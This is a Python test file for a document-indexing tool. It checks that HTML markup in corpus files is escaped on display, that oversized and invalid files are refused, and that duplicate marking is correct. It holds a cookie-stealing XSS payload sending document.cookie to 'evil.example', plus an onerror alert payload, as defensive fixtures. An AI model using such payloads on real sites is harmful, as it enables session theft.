"""Hostile corpus files: markup with scripts, oversized and megabyte files, a bad file among good
ones. (Empty, binary, non-UTF-8 and unsupported files: tests/index/test_corpus.py.)"""

from __future__ import annotations

import random
import zlib
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from index import corpus as corpus_module
from index.build import ensure_index
from index.embed import DIMENSION
from index.split import mark_duplicates, normalise
from index.store import LOCK, current_build, load_index
from rag.config import Config
from rag.types import Sentence
from ui import render

SCRIPT = "<script>document.location='https://evil.example/?c='+document.cookie</script>"
PAGE = f"""<!doctype html>
<html><head><title>Harbour news</title>
{SCRIPT}</head>
<body><p>The harbour opened in 1921. Ships from Norway arrived every week.</p>
<img src=x onerror="alert('pwned')">
<p>The mayor said the port would grow. Nobody believed her.</p></body></html>
"""


class HashEmbedder:
    """Bag-of-words vectors by CRC32, unit length: the SentenceTransformer ``encode`` shape
    without a model, for builds whose cost is not the embedding."""

    def encode(self, texts: list[str], **_: object) -> np.ndarray:
        out = np.zeros((len(texts), DIMENSION), dtype=np.float32)
        for row, text in enumerate(texts):
            for word in text.lower().split():
                out[row, zlib.crc32(word.encode()) % DIMENSION] += 1.0
        out += 1e-6
        return out / np.linalg.norm(out, axis=1, keepdims=True)


def _config(tmp_path: Path, *files: Path) -> Config:
    return Config(corpus=tuple(str(f) for f in files), index_dir=str(tmp_path / "built"))


# --- markup is text ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def html_index(tmp_path_factory, embedder):
    folder = tmp_path_factory.mktemp("html")
    page = folder / "page.md"
    page.write_text(PAGE, encoding="utf-8")
    index, _ = ensure_index(_config(folder, page), lambda: embedder)
    return index


def test_html_file_is_indexed_as_its_exact_text(html_index):
    assert html_index.documents["page.md"].text == PAGE


def test_script_text_stands_verbatim_in_a_sentence(html_index):
    hits = [s for s in html_index.sentences if SCRIPT in s.text]
    assert hits
    text = html_index.documents["page.md"].text
    assert all(text[s.start : s.end] == s.text for s in hits)


def test_markup_from_the_corpus_is_escaped_in_the_article_panel(html_index):
    shown = render.article_html(html_index.documents)
    assert "<script" not in shown and "<img" not in shown
    assert "&lt;script&gt;" in shown and "onerror=&quot;alert" in shown


def test_html_suffix_is_refused_with_the_file_named(tmp_path):
    page = tmp_path / "page.html"
    page.write_text(PAGE, encoding="utf-8")
    with pytest.raises(ValueError, match=r"page\.html: only \.txt and \.md"):
        corpus_module.read_corpus([page])


# --- size ---------------------------------------------------------------------------------


def test_file_over_the_size_limit_is_refused_without_reading_it(tmp_path):
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as fh:  # sparse: no disk used, nothing to read
        fh.truncate(corpus_module.MAX_FILE_BYTES + 1)
    with pytest.raises(ValueError, match=r"huge\.txt: \d+ bytes is larger than"):
        corpus_module.read_corpus([huge])


def _generated_text(n_bytes: int, seed: int = 7) -> str:
    rng = random.Random(seed)
    words = (
        "harbour ship mayor council river bridge market winter summer trade grain ferry road "
        "school teacher library budget tower station lamp garden"
    ).split()
    paragraphs, size, n = [], 0, 0
    while size < n_bytes:
        sentences = []
        for _ in range(5):
            n += 1
            body = " ".join(rng.choice(words) for _ in range(12))
            sentences.append(f"In year {1000 + n % 900} the {body} number {n}.")
        paragraphs.append(" ".join(sentences))
        size += len(paragraphs[-1]) + 2
    return "\n\n".join(paragraphs) + "\n"


@pytest.mark.timeout(120)
def test_three_megabyte_file_builds_in_reasonable_time(tmp_path):
    """Splitting, duplicate marking, chunking and storing scale to megabytes (the embedder is a
    stand-in: MiniLM alone would need many minutes on two cores)."""
    big = tmp_path / "big.txt"
    big.write_text(_generated_text(3_000_000), encoding="utf-8")
    index, reason = ensure_index(_config(tmp_path, big), HashEmbedder)
    assert reason == "no index built yet"
    text = index.documents["big.txt"].text
    assert len(text) >= 3_000_000 and len(index.sentences) > 25_000
    assert all(text[s.start : s.end] == s.text for s in index.sentences)
    assert all(text[c.start : c.end] == c.text for c in index.chunks)
    assert load_index(Path(index.path).parent).vectors.ntotal == len(index.chunks)


# --- a bad file stops the build before anything is written --------------------------------


def test_bad_file_among_good_ones_leaves_the_index_untouched(tmp_path, embedder):
    good = tmp_path / "good.txt"
    good.write_text("The harbour opened in 1921. Ships from Norway arrived every week.\n")
    config = _config(tmp_path, good)
    ensure_index(config, lambda: embedder)
    before = current_build(Path(config.index_dir))
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"caf\xe9 au lait")
    with pytest.raises(ValueError, match=r"bad\.txt: not valid UTF-8"):
        ensure_index(config.replace(corpus=(str(good), str(bad))), lambda: embedder)
    assert current_build(Path(config.index_dir)) == before
    left = sorted(p.name for p in Path(config.index_dir).iterdir() if p.name != LOCK)
    assert left == ["CURRENT", before.name]
    assert list(load_index(Path(config.index_dir)).documents) == ["good.txt"]


# --- duplicate marking: same result as the all-pairs definition ----------------------------


def _all_pairs_duplicates(sentences: list[Sentence], min_words: int = 4) -> list[int]:
    """``duplicate_of`` by the definition: compare every sentence with every other."""
    norms = [normalise(s.text) for s in sentences]
    para_len: dict[tuple[str, int], int] = {}
    for s in sentences:
        para_len[(s.source, s.paragraph)] = para_len.get((s.source, s.paragraph), 0) + len(s.text)
    result = []
    for s, norm in zip(sentences, norms, strict=True):
        best = -1
        if len(norm.split()) >= min_words:
            own = para_len[(s.source, s.paragraph)]
            for other, other_norm in zip(sentences, norms, strict=True):
                if other.source != s.source or other.paragraph == s.paragraph:
                    continue
                other_len = para_len[(other.source, other.paragraph)]
                longer = other_len > own or (other_len == own and other.id < s.id)
                if longer and f" {norm} " in f" {other_norm} ":
                    best = other.id
                    break
        result.append(best)
    return result


_WORD = st.sampled_from(["the", "port", "grew", "Port", "ships", "1921", "U.S.", "she", "said"])


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(["a.txt", "b.txt"]),
            st.integers(1, 4),
            st.lists(_WORD, min_size=1, max_size=8),
        ),
        max_size=14,
    )
)
def test_duplicate_marking_matches_the_all_pairs_definition(rows):
    sentences = [
        Sentence(i, source, 0, 0, paragraph, " ".join(words))
        for i, (source, paragraph, words) in enumerate(rows)
    ]
    marked = mark_duplicates(sentences)
    assert [s.duplicate_of for s in marked] == _all_pairs_duplicates(sentences)
